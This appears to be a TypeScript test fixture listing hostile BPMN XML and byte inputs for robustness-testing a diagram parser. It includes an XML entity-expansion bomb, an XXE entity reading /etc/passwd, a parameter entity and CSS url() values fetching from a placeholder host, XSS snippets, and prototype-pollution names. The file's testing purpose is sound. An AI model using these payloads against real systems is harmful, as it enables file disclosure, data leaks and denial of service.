/** A file built to hurt whoever reads it. `text` may be megabytes; it is made only when asked for. */
export type Hostile = { readonly name: string; readonly make: () => string | Uint8Array };

const NAMESPACES =
  'xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:di="http://www.omg.org/spec/DD/20100524/DI" xmlns:dc="http://www.omg.org/spec/DD/20100524/DC" xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:x="urn:x" xmlns:bioc="http://bpmn.io/schema/bpmn/biocolor/1.0" xmlns:bruchlos="urn:bruchlos:marks:1"';

const definitions = (content: string, head = '', more = ''): string =>
  `${head}<definitions ${NAMESPACES} ${more} targetNamespace="t">${content}</definitions>`;
const process = (content: string, behind = '', head = ''): string => definitions(`<process id="P">${content}</process>${behind}`, head);
const plane = (content: string): string =>
  `<bpmndi:BPMNDiagram id="D"><bpmndi:BPMNPlane id="PL" bpmnElement="P">${content}</bpmndi:BPMNPlane></bpmndi:BPMNDiagram>`;
const bounds = (sides: string): string => `<bpmndi:BPMNShape id="S" bpmnElement="T"><dc:Bounds ${sides}/></bpmndi:BPMNShape>`;
const task = '<task id="T" name="Antrag prüfen"/>';

function many(count: number, make: (index: number) => string): string {
  return Array.from({ length: count }, (_, index) => make(index)).join('');
}

const nested = (count: number, open: (index: number) => string, close: string): string => many(count, open) + close.repeat(count);

const TEXTS: Readonly<Record<string, () => string>> = {
  'deep sub-processes': () => process(nested(2000, (index) => `<subProcess id="s${index}">`, '</subProcess>')),
  'just deep enough': () => process(nested(240, (index) => `<subProcess id="s${index}">`, '</subProcess>')),
  'deep foreign elements': () => process(`<extensionElements>${nested(50_000, () => '<x:a>', '</x:a>')}</extensionElements>`),
  'deep lanes': () => process(nested(120, (index) => `<laneSet id="a${index}"><lane id="l${index}">`, '</lane></laneSet>')),
  'deep namespaces': () => process(nested(10_000, (index) => `<x:a xmlns:n${index}="urn:${index}">`, '</x:a>')),
  'namespaces again and again': () =>
    definitions(
      `<process id="P"><extensionElements>${many(20_000, (index) => `<x:a xmlns:m${index}="u${index}"/>`)}</extensionElements></process>`,
      '',
      many(190, (index) => ` xmlns:n${index}="u"`),
    ),
  'more than can be drawn': () => process(many(120_000, (index) => `<task id="t${index}" name="Schritt ${index}"/>`)),
  'unknown elements': () => process(many(50_000, (index) => `<ghost id="g${index}"/>`)),
  'unknown elements with content': () => process(many(900, () => `<ghost>${many(20, () => '<task/>')}</ghost>`)),
  'foreign elements': () => process(`<extensionElements>${many(100_000, () => '<x:a/>')}</extensionElements>`),
  'foreign elements in odd places': () => process(many(20_000, () => '<x:a y="1"/>')),
  attributes: () => process(`<task id="T" ${many(100_000, (index) => ` x:a${index}="1"`)}/>`),
  'namespaces on one element': () =>
    definitions(
      '<process id="P"/>',
      '',
      many(10_000, (index) => ` xmlns:n${index}="u"`),
    ),
  'an endless name': () => process(`<task id="T" name="${'x'.repeat(199_000)}"/>`),
  'an endless attribute': () => process(`<task id="T" name="${'x'.repeat(5_000_000)}"/>`),
  'an endless annotation': () => process(`<textAnnotation id="A"><text>${'Wort '.repeat(400_000)}</text></textAnnotation>`),
  'an endless text without blanks': () => process(`<textAnnotation id="A"><text>${'x'.repeat(2_000_000)}</text></textAnnotation>`),
  'an endless element name': () => process(`<${'a'.repeat(1_000_000)}/>`),
  'an endless id': () => process(`<task id="${'a'.repeat(150_000)}"/>`),
  'an endless comment': () => process(`<!--${'-x'.repeat(2_000_000)}-->${task}`),
  'many comments': () => process(many(150_000, () => '<!--x-->') + task),
  'an endless CDATA': () => process(`<documentation><![CDATA[${']]'.repeat(1_000_000)}]]></documentation>${task}`),
  'open comment': () => process(`<!--${'<!-'.repeat(500_000)}`),
  'open CDATA': () => process(`<![CDATA[${'<![CDATA['.repeat(300_000)}`),
  'open tags': () => '<a '.repeat(500_000),
  'many open angle brackets': () => '<'.repeat(2_000_000),
  'closing tags': () => '</a>'.repeat(500_000),
  'many quotes': () => process(`<task id="T" name='${'"'.repeat(150_000)}'/>`),
  'billion laughs': () =>
    process(
      '<task id="T" name="&l9;"/>',
      '',
      `<!DOCTYPE definitions [${many(10, (index) => `<!ENTITY l${index} "${`&l${index - 1};`.repeat(10)}">`)}]>`,
    ),
  'external entity': () => process('<task id="T" name="&e;"/>', '', '<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
  'parameter entity': () => process(task, '', '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://host.example/x.dtd"> %p;]>'),
  'endless document type': () => process(task, '', `<!DOCTYPE d [${'<!ELEMENT a ANY>'.repeat(200_000)}]>`),
  'open document type': () => `<!DOCTYPE d [${'"\'<!--'.repeat(300_000)}`,
  'a document type in the middle': () => process('<!DOCTYPE d [<!ENTITY a "b">]><task id="T"/>'),
  'many references': () => process(`<task id="T" name="${'&#128512;'.repeat(15_000)}"/>`),
  'references out of range': () => process(`<task id="T" name="${'&#99999999999;&#x110000;&#0;&#xD800;'.repeat(3000)}"/>`),
  'names of every object': () =>
    process(
      many(6, (index) => `<task id="${['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'prototype'][index]}"/>`),
    ),
  'attributes named like every object': () => process('<task id="T" __proto__="1" constructor="2" x:__proto__="3"/>'),
  'elements named like every object': () => process('<__proto__/><constructor/><x:__proto__/><hasOwnProperty id="h"/>'),
  'a prefix named like every object': () => process('<__proto__:a xmlns:__proto__="urn:p"/><constructor:b/>'),
  'a namespace named like every object': () => definitions('<p:process xmlns:p="__proto__" id="P"/>'),
  'a type named like every object': () =>
    process(
      '<sequenceFlow id="F" sourceRef="a" targetRef="b"><conditionExpression xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="__proto__">x</conditionExpression></sequenceFlow>',
    ),
  'one id for all': () => process(many(20_000, () => '<task id="T"/>')),
  'one id and all its flows': () => process(many(3000, () => '<task id="T"/><sequenceFlow id="T" sourceRef="T" targetRef="T"/>')),
  'ids one writes into the other': () => process(many(5000, (index) => `<task id="T_${index}"/><task id="T"/>`)),
  'self references': () =>
    process('<subProcess id="T" default="T"><incoming>T</incoming></subProcess><sequenceFlow id="F" sourceRef="F" targetRef="F"/>'),
  'an event on itself': () =>
    process('<boundaryEvent id="B" attachedToRef="B"/><boundaryEvent id="C" attachedToRef="D"/><boundaryEvent id="D" attachedToRef="C"/>'),
  'a pool of pools': () =>
    definitions('<collaboration id="C"><participant id="A" processRef="C"/><participant id="B" processRef="B"/></collaboration>'),
  'one process in many pools': () =>
    definitions(
      `<collaboration id="C">${many(200, (index) => `<participant id="p${index}" processRef="P"/>`)}</collaboration><process id="P">${task}</process>`,
    ),
  'a lane of lanes of itself': () =>
    process('<laneSet id="L"><lane id="A"><flowNodeRef>A</flowNodeRef><flowNodeRef>P</flowNodeRef></lane></laneSet>'),
  'size NaN': () => process(task, plane(bounds('x="1" y="1" width="NaN" height="80"'))),
  'size empty': () => process(task, plane(bounds('x="1" y="1" width="" height=""'))),
  'size missing': () => process(task, plane(bounds('x="1" y="1"'))),
  'size endless': () => process(task, plane(bounds('x="1" y="1" width="1e308" height="Infinity"'))),
  'size negative': () => process(task, plane(bounds('x="1" y="1" width="-100" height="-1e-320"'))),
  'place endless': () => process(task, plane(bounds('x="1e308" y="-1e308" width="10" height="10"'))),
  'no bounds': () => process(task, plane('<bpmndi:BPMNShape id="S" bpmnElement="T"/>')),
  'many shapes of one element': () =>
    process(
      task,
      plane(
        many(
          20_000,
          (index) => `<bpmndi:BPMNShape id="S${index}" bpmnElement="T"><dc:Bounds x="1" y="1" width="9" height="9"/></bpmndi:BPMNShape>`,
        ),
      ),
    ),
  'an edge of many points': () =>
    process(
      `${task}<task id="U"/><sequenceFlow id="F" sourceRef="T" targetRef="U"/>`,
      plane(
        `<bpmndi:BPMNEdge id="E" bpmnElement="F">${many(50_000, (index) => `<di:waypoint x="${index}" y="${index % 7}"/>`)}</bpmndi:BPMNEdge>`,
      ),
    ),
  'edges without points': () => process(task, plane(many(5000, (index) => `<bpmndi:BPMNEdge id="E${index}" bpmnElement="T"/>`))),
  'many diagrams': () =>
    process(
      task,
      many(5000, (index) => `<bpmndi:BPMNDiagram id="D${index}"><bpmndi:BPMNPlane id="L${index}" bpmnElement="P"/></bpmndi:BPMNDiagram>`),
    ),
  'many planes in one diagram': () =>
    process(
      task,
      `<bpmndi:BPMNDiagram id="D">${many(3000, (index) => `<bpmndi:BPMNPlane id="L${index}" bpmnElement="P"/>`)}</bpmndi:BPMNDiagram>`,
    ),
  'many processes': () => definitions(many(3000, (index) => `<process id="P${index}"><task id="T${index}"/></process>`)),
  'colours that call home': () =>
    process(
      task,
      plane(
        bounds('x="1" y="1" width="9" height="9"').replace(
          ' id="S"',
          ' id="S" bioc:fill="url(http://host.example/a)" bioc:stroke="image-set(url(//x))"',
        ),
      ),
    ),
  'many flows between two': () =>
    process(`${task}<task id="U"/>${many(3000, (index) => `<sequenceFlow id="f${index}" sourceRef="T" targetRef="U"/>`)}`),
  'everything to everything': () =>
    process(
      many(60, (index) => `<task id="t${index}"/>`) +
        many(3600, (index) => `<sequenceFlow id="f${index}" sourceRef="t${index % 60}" targetRef="t${Math.floor(index / 60)}"/>`),
    ),
  'a very long chain': () =>
    process(many(1500, (index) => `<task id="t${index}"/><sequenceFlow id="f${index}" sourceRef="t${index}" targetRef="t${index + 1}"/>`)),
  'marks of endless numbers': () =>
    process(
      `<task id="T"><extensionElements><bruchlos:step minutes="${'9'.repeat(100_000)}" waitDays="1e999">${many(5000, () => '<bruchlos:input carrier="x" share="NaN"/>')}</bruchlos:step></extensionElements></task>`,
    ),
  'control characters': () => process(`<task id="T" name="${'\u0000\u0007\ufffe'.repeat(20_000)}"/>`),
  'half surrogates': () => process(`<task id="T" name="${'\ud800x\udfff'.repeat(20_000)}"/>`),
  'scripts everywhere': () =>
    process(
      '<scriptTask id="T" name="&lt;img src=x onerror=alert(1)&gt;"><script>alert(1)</script><documentation>&lt;script&gt;</documentation></scriptTask>',
    ),
  'too many elements': () => process(many(210_000, () => '<task/>')),
  'more than 20 MB': () => process(`<documentation>${'x'.repeat(20 * 1024 * 1024)}</documentation>`),
};

const bytes = (...parts: readonly (number | string)[]): Uint8Array =>
  Uint8Array.from(parts.flatMap((part) => (typeof part === 'number' ? [part] : [...new TextEncoder().encode(part)])));

const BYTES: Readonly<Record<string, () => Uint8Array>> = {
  nothing: () => bytes(),
  'zeros only': () => new Uint8Array(1_000_000),
  'a mark and nothing else': () => bytes(0xff, 0xfe),
  'half a character of UTF-16': () => bytes(0xff, 0xfe, '<', 0, 'd'),
  'broken UTF-8': () => bytes(0xef, 0xbb, 0xbf, '<definitions name="', 0xc3, 0x28, 0xf0, 0x90, '"/>'),
  'an encoding nobody has': () => bytes('<?xml version="1.0" encoding="klingon"?><definitions/>'),
  'an endless declaration': () => bytes(`<?xml ${'version="1.0" '.repeat(200_000)}?><definitions/>`),
  'a zip archive': () => bytes('PK', 3, 4, 0, 0, 'x'.repeat(1000)),
  'a picture': () => bytes(0x89, 'PNG', 13, 10, 26, 10, 0, 0, 0),
};

/** All of them, each by a name that says what it tries. */
export const HOSTILE: readonly Hostile[] = Object.entries({ ...TEXTS, ...BYTES }).map(([name, make]) => ({ name, make }));
